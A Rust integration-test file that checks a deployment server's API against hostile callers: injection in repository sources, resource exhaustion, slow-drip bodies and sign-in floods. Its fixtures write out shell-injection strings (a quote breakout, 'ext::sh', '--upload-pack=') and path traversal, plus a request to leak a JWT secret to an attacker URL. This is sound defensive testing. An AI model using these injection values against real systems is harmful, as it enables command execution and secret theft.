//! The server under attack from its own callers: an admin token cannot reach the host (shell, environment,
//! files) through an app's source, and no caller can grow the server without bound — metrics labels, held
//! connections, unknown tokens — or get an error that is not the API's JSON shape.

use std::net::SocketAddr;
use std::time::Duration;

use axum::http::{Method, StatusCode};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use weft_engine::api::listener::{self, ListenerLimits};

use crate::api::{ACME, ADMIN, OTHER, Role, api, api_configured, api_limited};

/// Apps an admin might post to reach the host, each with the key the refusal names.
fn hostile_apps(attacker: SocketAddr, marker: &std::path::Path) -> Vec<(Value, &'static str)> {
    let app = |source: Value| json!({"name": "evil", "type": "yaml", "namespace": "evil", "org": "acme", "source": source});
    vec![
        // 1: a quote in the key path used to break out of the single-quoted ssh command.
        (
            app(json!({"repo": format!("ssh://git@{attacker}/x.git"),
                       "ssh_key": format!("/k' ; touch {} ; echo '", marker.display())})),
            "source.ssh_key",
        ),
        // 2: any variable of the server's environment sent as a password to any URL.
        (
            app(
                json!({"repo": format!("https://{attacker}/x.git"), "username": "u",
                       "password_env": "WEFT_JWT_SECRET"}),
            ),
            "source.username",
        ),
        (
            app(json!({"repo": format!("http://{attacker}/x.git")})),
            "source.repo",
        ),
        // 3: directories of the server as a source.
        (app(json!({"path": "/etc"})), "source.repo"),
        (app(json!({"path": "../../../../root"})), "source.repo"),
        (
            app(json!({"repo": "/srv/git/another-tenant.git"})),
            "source.repo",
        ),
        (app(json!({"repo": "file:///etc"})), "source.repo"),
        // Other transports, and arguments smuggled in as URLs.
        (
            app(json!({"repo": "ext::sh -c touch% /tmp/weft-pwned"})),
            "source.repo",
        ),
        (
            app(json!({"repo": "--upload-pack=touch /tmp/weft-pwned"})),
            "source.repo",
        ),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn an_admin_token_cannot_reach_the_servers_shell_environment_or_files() {
    // As weft.toml has it by default: no file:// repositories for API apps.
    let api = api_limited(1, weft_tests::builtin_registry(), 10_000, false).await;
    let attacker = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    attacker.set_nonblocking(true).unwrap();
    let attacker_addr = attacker.local_addr().unwrap();
    let marker_dir = tempfile::tempdir().unwrap();
    let marker = marker_dir.path().join("pwned");
    for (body, key) in hostile_apps(attacker_addr, &marker) {
        let (status, text) = api
            .call(
                Role::Admin,
                Method::POST,
                "/v1/deploy/applications",
                Some(body.clone()),
            )
            .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{body}: {text}");
        let error: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(error["error"], "bad_request");
        let message = error["message"].as_str().unwrap();
        assert!(message.contains(key), "{body}: {message}");
        // A refusal says nothing of what exists on the server.
        assert!(!message.contains("No such file"), "{message}");
    }
    // Nothing was stored, so nothing is left to run...
    let (status, _) = api
        .call(
            Role::Admin,
            Method::GET,
            "/v1/deploy/applications/evil",
            None,
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    // ...and after a full round of the reconciler (shop syncs), nothing ran and nothing was sent.
    api.synced("shop").await;
    assert!(!marker.exists(), "a command ran on the server");
    assert!(
        matches!(attacker.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the server connected to the attacker's address"
    );
    api.server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn made_up_methods_and_paths_do_not_grow_the_metrics() {
    let api = api().await;
    let metrics = |text: &str| -> (usize, std::collections::BTreeSet<String>) {
        let methods = text
            .lines()
            .filter_map(|line| line.split("method=\"").nth(1))
            .filter_map(|rest| rest.split('"').next())
            .map(str::to_string)
            .collect();
        (text.len(), methods)
    };
    for n in 0..300 {
        let method = Method::from_bytes(format!("BREW{n}").as_bytes()).unwrap();
        api.call(Role::Anonymous, method, &format!("/nowhere/{n}"), None)
            .await;
    }
    let (_, first) = api
        .call(Role::Anonymous, Method::GET, "/metrics", None)
        .await;
    for n in 300..600 {
        let method = Method::from_bytes(format!("BREW{n}").as_bytes()).unwrap();
        api.call(Role::Anonymous, method, &format!("/nowhere/{n}"), None)
            .await;
    }
    let (_, second) = api
        .call(Role::Anonymous, Method::GET, "/metrics", None)
        .await;
    let ((first_len, _), (second_len, methods)) = (metrics(&first), metrics(&second));
    assert!(methods.contains("OTHER"), "{methods:?}");
    assert!(
        methods.iter().all(|m| !m.starts_with("BREW")),
        "{methods:?}"
    );
    assert!(
        second_len < first_len + 200,
        "300 more made-up requests grew /metrics from {first_len} to {second_len} bytes"
    );
    api.server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn every_error_has_the_json_shape_and_an_oversized_body_is_413() {
    let api = api().await;
    let huge = json!({"name": "big", "padding": "x".repeat(weft_engine::api::BODY_LIMIT + 1)});
    let (status, text) = api
        .call(
            Role::Admin,
            Method::POST,
            "/v1/deploy/applications",
            Some(huge),
        )
        .await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{text}");
    for (method, path, want) in [
        (
            Method::GET,
            "/v1/deploy/applications?limit=many",
            StatusCode::BAD_REQUEST,
        ),
        (
            Method::GET,
            "/v1/deploy/applications?bogus=1",
            StatusCode::BAD_REQUEST,
        ),
        (
            Method::GET,
            "/v1/deploy/shop/logs?tail=x",
            StatusCode::BAD_REQUEST,
        ),
        (Method::GET, "/no/such/route", StatusCode::NOT_FOUND),
        (Method::DELETE, "/v1/whoami", StatusCode::METHOD_NOT_ALLOWED),
        (
            Method::DELETE,
            "/v1/tokens/no-such-token",
            StatusCode::NOT_FOUND,
        ),
        (Method::PUT, "/v1/tokens", StatusCode::METHOD_NOT_ALLOWED),
    ] {
        let (status, text) = api.call(Role::Admin, method.clone(), path, None).await;
        assert_eq!(status, want, "{method} {path}: {text}");
        let error: Value = serde_json::from_str(&text)
            .unwrap_or_else(|e| panic!("{method} {path}: not JSON ({e}): {text}"));
        assert!(
            error["error"].is_string() && error["message"].is_string(),
            "{text}"
        );
    }
    let (status, text) = api
        .call(Role::Admin, Method::POST, "/v1/deploy/applications", None)
        .await;
    assert!(status.is_client_error(), "{text}");
    assert!(serde_json::from_str::<Value>(&text).is_ok(), "{text}");
    api.server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn unknown_tokens_are_rate_limited_per_client_and_never_share_a_principals_bucket() {
    let api = api_limited(1, weft_tests::builtin_registry(), 5, true).await;
    let mut limited = 0;
    for n in 0..40 {
        let request = axum::http::Request::builder()
            .uri("/v1/whoami")
            .header("authorization", format!("Bearer weft_unknown_{n}"))
            .body(axum::body::Body::empty())
            .unwrap();
        let response = tower::ServiceExt::oneshot(api.router.clone(), request)
            .await
            .unwrap();
        match response.status() {
            StatusCode::UNAUTHORIZED => {}
            StatusCode::TOO_MANY_REQUESTS => limited += 1,
            other => panic!("unexpected {other}"),
        }
    }
    assert!(limited > 0, "40 unknown tokens in a row were never limited");
    // The failures drained the client's bucket, not the admin's: a known token still gets in.
    let (status, text) = api.call(Role::Admin, Method::GET, "/v1/whoami", None).await;
    assert_eq!(status, StatusCode::OK, "{text}");
    api.server.shutdown().await;
}

/// One request on a fresh connection, `Connection: close`; the status and body.
async fn raw_get(addr: SocketAddr, path: &str) -> (u16, String) {
    let mut stream = TcpStream::connect(addr).await.unwrap();
    stream
        .write_all(
            format!("GET {path} HTTP/1.1\r\nHost: weft\r\nConnection: close\r\n\r\n").as_bytes(),
        )
        .await
        .unwrap();
    let mut text = String::new();
    tokio::time::timeout(Duration::from_secs(120), stream.read_to_string(&mut text))
        .await
        .expect("the server answers")
        .unwrap();
    let status = text
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let body = text
        .split("\r\n\r\n")
        .nth(1)
        .unwrap_or_default()
        .to_string();
    (status, body)
}

#[tokio::test(flavor = "multi_thread")]
async fn the_listener_caps_connections_times_out_slow_and_idle_ones_and_keeps_healthz_answering() {
    let api = api().await;
    let tcp = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = tcp.local_addr().unwrap();
    let limits = ListenerLimits {
        max_connections: 4,
        header_timeout: Duration::from_secs(1),
        body_timeout: Duration::from_secs(1),
    };
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let served = tokio::spawn(listener::serve(tcp, api.router.clone(), limits, async {
        let _ = stopped.await;
    }));
    // Four followed log streams take every slot (they stay open for as long as the client does)...
    api.synced("shop").await;
    let mut streams = Vec::new();
    for _ in 0..4 {
        let mut stream = TcpStream::connect(addr).await.unwrap();
        stream
            .write_all(
                format!(
                    "GET /v1/deploy/shop/logs?follow=true HTTP/1.1\r\nHost: weft\r\nAuthorization: Bearer {ADMIN}\r\n\r\n"
                )
                .as_bytes(),
            )
            .await
            .unwrap();
        let mut head = [0u8; 12];
        tokio::time::timeout(Duration::from_secs(120), stream.read_exact(&mut head))
            .await
            .expect("the stream starts")
            .unwrap();
        assert_eq!(&head, b"HTTP/1.1 200");
        streams.push(stream);
    }
    // ...and still /healthz answers, while anything else is told to come back, in the JSON shape.
    let (status, body) = raw_get(addr, "/healthz").await;
    assert_eq!((status, body.as_str()), (200, "ok"));
    let (status, body) = raw_get(addr, "/v1/whoami").await;
    assert_eq!(status, 503, "{body}");
    assert!(body.contains("most connections"), "{body}");
    drop(streams);
    // Half-sent requests hold nothing for long.
    let mut held = Vec::new();
    for _ in 0..4 {
        let mut stream = TcpStream::connect(addr).await.unwrap();
        stream
            .write_all(b"GET /v1/whoami HTTP/1.1\r\nHost: weft\r\n")
            .await
            .unwrap();
        held.push(stream);
    }
    // The header deadline closes the half-sent requests (however slowly the machine gets round to it).
    for mut stream in held {
        let mut rest = Vec::new();
        tokio::time::timeout(Duration::from_secs(120), stream.read_to_end(&mut rest))
            .await
            .expect("a half-sent request is closed by the header deadline")
            .ok();
    }
    // A kept-alive connection that goes idle after its answer is closed too.
    let mut idle = TcpStream::connect(addr).await.unwrap();
    idle.write_all(b"GET /healthz HTTP/1.1\r\nHost: weft\r\n\r\n")
        .await
        .unwrap();
    let mut all = Vec::new();
    tokio::time::timeout(Duration::from_secs(120), idle.read_to_end(&mut all))
        .await
        .expect("an idle kept-alive connection is closed")
        .unwrap();
    assert!(String::from_utf8_lossy(&all).starts_with("HTTP/1.1 200"));
    // The slots are free again: requests are served as usual.
    let deadline = tokio::time::Instant::now() + Duration::from_secs(120);
    loop {
        let (status, body) = raw_get(addr, "/v1/whoami").await;
        if status == 401 {
            break;
        }
        assert_eq!(status, 503, "{body}");
        assert!(
            tokio::time::Instant::now() < deadline,
            "the slots never freed"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let _ = stop.send(());
    served.await.unwrap();
    api.server.shutdown().await;
}

/// The generous bound on anything the server should do "soon" on a loaded machine.
const SOON: Duration = Duration::from_secs(120);

/// Serves `app` through the API's listener with `limits`; stop it with the sender.
fn listen(
    app: axum::Router,
    limits: ListenerLimits,
) -> (
    SocketAddr,
    tokio::sync::oneshot::Sender<()>,
    tokio::task::JoinHandle<()>,
) {
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let addr = tcp.local_addr().unwrap();
    let tcp = TcpListener::from_std(tcp).unwrap();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let served = tokio::spawn(listener::serve(tcp, app, limits, async {
        let _ = stopped.await;
    }));
    (addr, stop, served)
}

/// Reads an answer's head (through the blank line): its status and the head's text.
async fn read_head(stream: &mut TcpStream) -> (u16, String) {
    let mut head = Vec::new();
    let mut byte = [0u8; 1];
    tokio::time::timeout(SOON, async {
        while !head.ends_with(b"\r\n\r\n") {
            if stream.read(&mut byte).await.unwrap_or(0) == 0 {
                break;
            }
            head.push(byte[0]);
        }
    })
    .await
    .expect("the server answers");
    let head = String::from_utf8_lossy(&head).into_owned();
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    (status, head)
}

/// One request on a fresh connection, `Connection: close`, with `token` as the bearer and `body` if any: the
/// status, the head and the body.
async fn raw_call(
    addr: SocketAddr,
    method: &str,
    path: &str,
    token: Option<&str>,
    body: Option<&str>,
) -> (u16, String, String) {
    let mut stream = TcpStream::connect(addr).await.unwrap();
    let mut request = format!("{method} {path} HTTP/1.1\r\nHost: weft\r\nConnection: close\r\n");
    if let Some(token) = token {
        request.push_str(&format!("Authorization: Bearer {token}\r\n"));
    }
    if let Some(body) = body {
        request.push_str(&format!(
            "Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        ));
    } else {
        request.push_str("\r\n");
    }
    stream.write_all(request.as_bytes()).await.unwrap();
    let (status, head) = read_head(&mut stream).await;
    let mut rest = Vec::new();
    tokio::time::timeout(SOON, stream.read_to_end(&mut rest))
        .await
        .expect("the server finishes its answer")
        .ok();
    (status, head, String::from_utf8_lossy(&rest).into_owned())
}

/// Opens a followed log stream as `token`: the connection (held open while it streams), the status and the head.
async fn open_stream(addr: SocketAddr, path: &str, token: &str) -> (TcpStream, u16, String) {
    let mut stream = TcpStream::connect(addr).await.unwrap();
    stream
        .write_all(
            format!("GET {path} HTTP/1.1\r\nHost: weft\r\nAuthorization: Bearer {token}\r\n\r\n")
                .as_bytes(),
        )
        .await
        .unwrap();
    let (status, head) = read_head(&mut stream).await;
    (stream, status, head)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_body_sent_a_byte_at_a_time_is_cut_off_with_408_on_every_route_the_consoles_too() {
    let api = api().await;
    let app = api.router.clone().merge(weft_console::router(
        api.router.clone(),
        weft_console::ConsoleConfig::default(),
    ));
    let body_timeout = Duration::from_secs(2);
    let (addr, stop, served) = listen(
        app,
        ListenerLimits {
            max_connections: 5,
            header_timeout: Duration::from_secs(10),
            body_timeout,
        },
    );
    // The attack: headers promising 100 bytes of body, then a byte every half second, on four of five slots (the
    // console's sign-in and sign-out, which need no credential, and the API's app creation).
    let mut drips = Vec::new();
    for (path, auth) in [
        ("/sign-in", ""),
        ("/sign-in", ""),
        ("/sign-out", ""),
        (
            "/v1/deploy/applications",
            "Authorization: Bearer weft_nobody\r\n",
        ),
    ] {
        let stream = TcpStream::connect(addr).await.unwrap();
        let (mut reader, mut writer) = stream.into_split();
        let sent = tokio::time::Instant::now();
        writer
            .write_all(
                format!(
                    "POST {path} HTTP/1.1\r\nHost: weft\r\n{auth}Content-Type: application/x-www-form-urlencoded\r\n\
                     Content-Length: 100\r\n\r\n"
                )
                .as_bytes(),
            )
            .await
            .unwrap();
        let dripping = tokio::spawn(async move {
            for _ in 0..99 {
                tokio::time::sleep(Duration::from_millis(500)).await;
                if writer.write_all(b"t").await.is_err() {
                    break;
                }
            }
            writer
        });
        let answer = tokio::spawn(async move {
            let mut all = Vec::new();
            let read = tokio::time::timeout(SOON, reader.read_to_end(&mut all)).await;
            (read.is_ok(), sent.elapsed(), all)
        });
        drips.push((path, dripping, answer));
    }
    // Meanwhile the admin is served on the slot left.
    let (status, _, body) = raw_call(addr, "GET", "/v1/whoami", Some(ADMIN), None).await;
    assert_eq!(status, 200, "{body}");
    // Each dripping request is answered 408 and its connection closed, after the body deadline (never, without
    // one: the 100th byte is never sent).
    for (path, dripping, answer) in drips {
        let (closed, elapsed, all) = answer.await.unwrap();
        assert!(closed, "{path}: the connection was never closed");
        let text = String::from_utf8_lossy(&all);
        assert!(text.starts_with("HTTP/1.1 408"), "{path}: {text}");
        assert!(
            text.to_ascii_lowercase().contains("connection: close"),
            "{path}: {text}"
        );
        assert!(text.contains(r#""error":"timeout""#), "{path}: {text}");
        assert!(elapsed >= body_timeout, "{path}: cut off after {elapsed:?}");
        dripping.abort();
    }
    // Every slot is free again, and a body sent at once still reaches its handler (an unreadable one is the
    // handler's 400, not the listener's) while one over the limit is refused before it is read.
    let (status, _, body) = raw_call(addr, "GET", "/v1/whoami", Some(ADMIN), None).await;
    assert_eq!(status, 200, "{body}");
    let (status, _, body) = raw_call(
        addr,
        "POST",
        "/v1/deploy/applications",
        Some(ADMIN),
        Some("{not json"),
    )
    .await;
    assert_eq!(status, 400, "{body}");
    let mut stream = TcpStream::connect(addr).await.unwrap();
    stream
        .write_all(
            b"POST /sign-in HTTP/1.1\r\nHost: weft\r\nContent-Type: application/x-www-form-urlencoded\r\n\
              Content-Length: 10000000\r\n\r\ntoken=x",
        )
        .await
        .unwrap();
    let (status, head) = read_head(&mut stream).await;
    assert_eq!(status, 413, "{head}");
    let _ = stop.send(());
    served.await.unwrap();
    api.server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn followed_streams_are_bounded_per_principal_and_in_total_and_an_admin_still_gets_in() {
    // Twelve connections; streams: two per principal, five in all, two of them kept for admins.
    let api = api_configured(
        1,
        weft_tests::builtin_registry(),
        10_000,
        true,
        "[api]\nmax_connections = 12\nmax_streams_per_principal = 2\nmax_streams = 5\n",
    )
    .await;
    let (addr, stop, served) = listen(
        api.router.clone(),
        ListenerLimits {
            max_connections: 12,
            header_timeout: Duration::from_secs(10),
            body_timeout: Duration::from_secs(10),
        },
    );
    api.synced("shop").await;
    api.synced("blog").await;
    const SHOP: &str = "/v1/deploy/shop/logs?follow=true";
    const BLOG: &str = "/v1/deploy/blog/logs?follow=true";
    // The attack: one member opens streams as fast as it can. Two open...
    let mut acme = Vec::new();
    for _ in 0..2 {
        let (stream, status, head) = open_stream(addr, SHOP, ACME).await;
        assert_eq!(status, 200, "{head}");
        acme.push(stream);
    }
    // ...the rest are refused, saying why and when to come back.
    for _ in 0..5 {
        let (status, head, body) = raw_call(addr, "GET", SHOP, Some(ACME), None).await;
        assert_eq!(status, 429, "{head}{body}");
        assert!(
            head.to_ascii_lowercase().contains("retry-after: "),
            "{head}"
        );
        let error: Value = serde_json::from_str(&body).unwrap();
        assert_eq!(error["error"], "too_many_streams", "{body}");
        assert!(
            error["message"]
                .as_str()
                .unwrap()
                .contains("max_streams_per_principal"),
            "{body}"
        );
    }
    // The admin is served, and another member's stream opens.
    let (status, _, body) = raw_call(addr, "GET", "/v1/whoami", Some(ADMIN), None).await;
    assert_eq!(status, 200, "{body}");
    let (other, status, head) = open_stream(addr, BLOG, OTHER).await;
    assert_eq!(status, 200, "{head}");
    // Members now hold their share of the total (five, less two kept for admins): another member's stream is
    // refused, and an admin still follows a log.
    let (status, head, body) = raw_call(addr, "GET", BLOG, Some(OTHER), None).await;
    assert_eq!(status, 429, "{head}{body}");
    assert!(
        head.to_ascii_lowercase().contains("retry-after: "),
        "{head}"
    );
    let error: Value = serde_json::from_str(&body).unwrap();
    assert_eq!(error["error"], "too_many_streams", "{body}");
    assert!(
        error["message"]
            .as_str()
            .unwrap()
            .contains("most followed log streams"),
        "{body}"
    );
    let (admin_stream, status, head) = open_stream(addr, SHOP, ADMIN).await;
    assert_eq!(status, 200, "{head}");
    let (status, _, body) = raw_call(addr, "GET", "/v1/whoami", Some(ADMIN), None).await;
    assert_eq!(status, 200, "{body}");
    // Once the member's streams are closed, it may open them again.
    drop(acme);
    let deadline = tokio::time::Instant::now() + SOON;
    let mut reopened = Vec::new();
    while reopened.len() < 2 {
        let (stream, status, head) = open_stream(addr, SHOP, ACME).await;
        if status == 200 {
            reopened.push(stream);
            continue;
        }
        assert_eq!(status, 429, "{head}");
        assert!(
            tokio::time::Instant::now() < deadline,
            "closed streams never gave their places back"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    drop((reopened, other, admin_stream));
    let _ = stop.send(());
    served.await.unwrap();
    api.server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_flood_of_sso_sign_in_starts_from_one_address_is_refused_and_evicts_no_one_elses() {
    // A provider whose token endpoint refuses every code: a callback that reaches it proves its sign-in was still
    // waiting (a forgotten one is "expired or not started", without asking the provider).
    let idp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    idp.set_nonblocking(true).unwrap();
    let idp_addr = idp.local_addr().unwrap();
    let token_endpoint = axum::Router::new().route(
        "/token",
        axum::routing::post(|| async {
            (
                StatusCode::BAD_REQUEST,
                axum::Json(json!({"error": "invalid_grant"})),
            )
        }),
    );
    let idp_server = tokio::spawn(async move {
        axum::serve(TcpListener::from_std(idp).unwrap(), token_endpoint)
            .await
            .ok();
    });
    let console = weft_console::router(
        axum::Router::new(),
        weft_console::ConsoleConfig {
            oidc: vec![weft_console::OidcProvider {
                name: "Test".into(),
                issuer: "https://idp.test".into(),
                client_id: "weft".into(),
                client_secret: None,
                redirect_url: None,
                scopes: vec!["openid".into()],
                authorization_endpoint: Some("https://idp.test/authorize".into()),
                token_endpoint: Some(format!("http://{idp_addr}/token")),
            }],
            ..Default::default()
        },
    );
    let get = |path: String, from: [u8; 4], cookie: Option<String>| {
        let console = console.clone();
        async move {
            let mut request = axum::http::Request::builder()
                .uri(path)
                .header("host", "weft.test");
            if let Some(cookie) = cookie {
                request = request.header("cookie", cookie);
            }
            let mut request = request.body(axum::body::Body::empty()).unwrap();
            request
                .extensions_mut()
                .insert(axum::extract::ConnectInfo(SocketAddr::from((from, 40000))));
            let response = tower::ServiceExt::oneshot(console, request).await.unwrap();
            let status = response.status();
            let headers = response.headers().clone();
            let body = http_body_util::BodyExt::collect(response.into_body())
                .await
                .unwrap()
                .to_bytes();
            (status, headers, String::from_utf8_lossy(&body).into_owned())
        }
    };
    // A user starts signing in: the state in the provider's URL, the binding in a cookie.
    let (status, headers, _) = get("/sign-in/oidc/0".into(), [192, 0, 2, 1], None).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let location = headers["location"].to_str().unwrap();
    let state = location
        .split('&')
        .find_map(|kv| kv.strip_prefix("state="))
        .unwrap()
        .to_string();
    let binding = headers["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    // The attack: one address starts sign-ins as fast as it can.
    let flood_started = tokio::time::Instant::now();
    let (mut started, mut refused) = (0u64, 0u64);
    for _ in 0..400 {
        let (status, headers, _) = get("/sign-in/oidc/0".into(), [198, 51, 100, 7], None).await;
        match status {
            StatusCode::SEE_OTHER => started += 1,
            StatusCode::TOO_MANY_REQUESTS => {
                refused += 1;
                assert!(headers.contains_key("retry-after"));
            }
            other => panic!("a start answered {other}"),
        }
    }
    // A burst of 20 and one a second after: however slowly the machine ran the flood, most of it was refused.
    let allowed = 20 + flood_started.elapsed().as_secs() + 1;
    assert!(
        started <= allowed,
        "{started} starts allowed (at most {allowed})"
    );
    assert!(refused >= 400 - allowed, "only {refused} refused");
    // Another address still starts a sign-in...
    let (status, _, body) = get("/sign-in/oidc/0".into(), [203, 0, 113, 5], None).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{body}");
    // ...and the user's sign-in still waits: its callback reaches the provider (which refuses the made-up code).
    let (status, _, body) = get(
        format!("/sign-in/oidc/callback?state={state}&code=made-up"),
        [192, 0, 2, 1],
        Some(binding),
    )
    .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(body.contains("refused: invalid_grant"), "{body}");
    idp_server.abort();
}
